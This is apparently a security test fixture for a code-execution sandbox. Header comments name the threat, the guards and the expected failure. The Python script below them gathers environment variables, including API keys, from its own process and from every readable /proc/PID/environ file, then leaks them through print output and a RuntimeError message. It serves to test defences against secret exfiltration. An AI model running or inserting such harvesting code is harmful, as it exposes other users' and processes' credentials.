# threat: reads API keys from its environment and every readable /proc/PID/environ and reports them in its error, in a run started from the command line
# run: cli
# guards: syntax, edit-scope
# static: forbidden-module
# expect: failed ~ RuntimeError
import os, glob
_seen = repr(dict(os.environ))
for _p in glob.glob('/proc/*/environ'):
    try:
        _seen += open(_p, 'rb').read().decode(errors='replace')
    except OSError:
        pass
print(_seen)
raise RuntimeError(_seen[-3000:])
